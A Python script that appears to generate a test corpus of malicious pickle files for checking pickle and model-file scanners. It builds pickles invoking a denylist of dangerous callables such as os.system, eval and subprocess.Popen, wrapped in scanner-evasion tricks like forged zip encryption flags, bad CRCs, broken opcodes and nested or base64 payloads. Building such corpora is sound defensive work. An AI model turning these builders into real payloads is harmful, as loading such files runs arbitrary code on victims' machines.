"""Writes pickles that load what published descriptions of attacks name; the bytes are put together, nothing is executed.

stdin: {folder}; stdout: [name]

Sources of the names: the published advisories of picklescan (GHSA-…, 2025), "PickleCloak" (arXiv 2508.19774), "Hide and Seek" of
ReversingLabs (2025), the denylists of picklescan, modelscan and fickling themselves.
"""

from __future__ import annotations

import base64
import io
import json
import os
import struct
import sys
import zipfile

NAMES = """
os.system posix.system nt.system subprocess.Popen subprocess.check_output builtins.eval builtins.exec builtins.compile builtins.open builtins.getattr
builtins.__import__ __builtin__.eval __builtin__.execfile runpy.run_path runpy._run_code importlib.import_module pty.spawn socket.socket shutil.rmtree
webbrowser.open pip.main pip._internal.main asyncio.unix_events._UnixSubprocessTransport._start timeit.timeit timeit.main code.InteractiveInterpreter
cProfile.run cProfile.runctx profile.run profile.Profile.runctx trace.Trace.run bdb.Bdb.run bdb.Bdb.runeval doctest.debug_script pdb.run pydoc.pipepager
pydoc.locate idlelib.pyshell.ModifiedInterpreter.runcode idlelib.autocomplete.AutoComplete.get_entity idlelib.run.Executive.runcode idlelib.debugobj.ObjectTreeItem.SetText
lib2to3.pgen2.grammar.Grammar.loadgrammar lib2to3.pgen2.pgen.ParserGenerator.make_label ensurepip._run_pip venv.create distutils.file_util.write_file
numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran.myeval numpy.testing._private.utils.runstring numpy.load numpy.core.multiarray.fromfile
torch.load torch.hub.load torch.utils.bottleneck.__main__.run_cprofile torch.utils.collect_env.run torch.jit.unsupported_tensor_ops.execWrapper
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch._dynamo.guards.GuardBuilder.get torch.utils._config_module.ConfigModule.load_config
torch.utils.data.datapipes.utils.decoder.basichandlers torch.distributed.run.main torch.serialization.load torch.storage._load_from_bytes
operator.attrgetter operator.methodcaller _operator.attrgetter _operator.methodcaller functools.partial functools.reduce types.CodeType types.FunctionType
marshal.loads pickle.loads _pickle.loads dill.loads cloudpickle.loads joblib.load copyreg.add_extension ctypes.CDLL ctypes.cdll.LoadLibrary cffi.FFI
logging.config.listen linecache.getlines mimetypes.init multiprocessing.util.spawnv_passfds smtplib.SMTP ftplib.FTP urllib.request.urlopen requests.get http.client.HTTPSConnection
aiohttp.client.ClientSession ssl.get_server_certificate sqlite3.connect zipimport.zipimporter site.addsitedir sys.settrace signal.signal gc.get_objects
tempfile.NamedTemporaryFile pathlib.Path.unlink io.open _io.open codecs.open bz2.open lzma.open gzip.open tarfile.open zipfile.ZipFile fileinput.FileInput
test.support.script_helper.assert_python_ok unittest.main unittest.mock._importer xmlrpc.server.SimpleXMLRPCServer wsgiref.simple_server.make_server
sklearn.externals.joblib.load paddle.utils.cpp_extension.load_inline transformers.pipeline tensorflow.io.write_file commands.getoutput platform.popen dbm.open shelve.open
""".split()


def protocol0(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n(S'id'\ntR.".encode()


def protocol2(module: str, name: str) -> bytes:
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X\x02\x00\x00\x00id\x85R."


def protocol4(module: str, name: str) -> bytes:
    def text(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode() + b"\x94"

    body = text(module) + text(name) + b"\x93\x94" + text("id") + b"\x85\x94R\x94."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def by_instance(module: str, name: str) -> bytes:
    return b"(S'id'\ni" + f"{module}\n{name}\n.".encode()


def by_object(module: str, name: str) -> bytes:
    return b"(c" + f"{module}\n{name}\n".encode() + b"S'id'\no."


def by_new(module: str, name: str) -> bytes:
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b")\x81."


def by_memo(module: str, name: str) -> bytes:
    texts = b"".join(b"X" + struct.pack("<I", len(value)) + value.encode() + b"q" + bytes([index]) + b"0" for index, value in enumerate([module, name]))
    return b"\x80\x04" + texts + b"h\x00h\x01\x93)R."


def behind_stop(module: str, name: str) -> bytes:
    return b"\x80\x02}." + protocol2(module, name)


def without_stop(module: str, name: str) -> bytes:
    return protocol2(module, name)[:-1]


def broken_later(module: str, name: str) -> bytes:
    return protocol2(module, name)[:-1] + b"\xffnot an opcode"


def in_torch(module: str, name: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("archive/data.pkl", protocol2(module, name))
        archive.writestr("archive/version", "3\n")
    return made.getvalue()


def in_deflated(module: str, name: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("model/data.pkl", protocol4(module, name) )
    return made.getvalue()


def with_flag(module: str, name: str) -> bytes:
    """The flag of encryption set in the directory alone: zipfile refuses, torch reads."""
    data = bytearray(in_torch(module, name))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def with_bad_crc(module: str, name: str) -> bytes:
    data = bytearray(in_torch(module, name))
    data[data.index(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(data)


def in_npy(module: str, name: str) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + protocol2(module, name)


def in_data(module: str, name: str) -> bytes:
    inner = protocol4(module, name)
    return b"\x80\x04\x8c\x01aB" + struct.pack("<I", len(inner)) + inner + b"\x86."


def in_base64(module: str, name: str) -> bytes:
    inner = base64.b64encode(protocol4(module, name))
    return b"\x80\x04X" + struct.pack("<I", len(inner)) + inner + b"."


WAYS = [protocol0, protocol2, protocol4, by_instance, by_object, by_new, by_memo, behind_stop, without_stop, broken_later, in_torch, in_deflated, with_flag, with_bad_crc, in_npy, in_data, in_base64]
ENDINGS = {"in_torch": "pt", "in_deflated": "bin", "with_flag": "bin", "with_bad_crc": "pt", "in_npy": "npy"}


def main() -> None:
    folder = json.load(sys.stdin)["folder"]
    names = []
    for index, dotted in enumerate(NAMES):
        module, name = dotted.rsplit(".", 1)
        ways = WAYS if index < 4 else [WAYS[index % len(WAYS)], WAYS[(index * 5 + 1) % len(WAYS)]]
        for way in dict.fromkeys(ways):
            path = f"{way.__name__}-{dotted}.{ENDINGS.get(way.__name__, 'pkl')}"
            with open(os.path.join(folder, path), "wb") as file:
                file.write(way(module, name))
            names.append(path)
    print(json.dumps(names))


main()
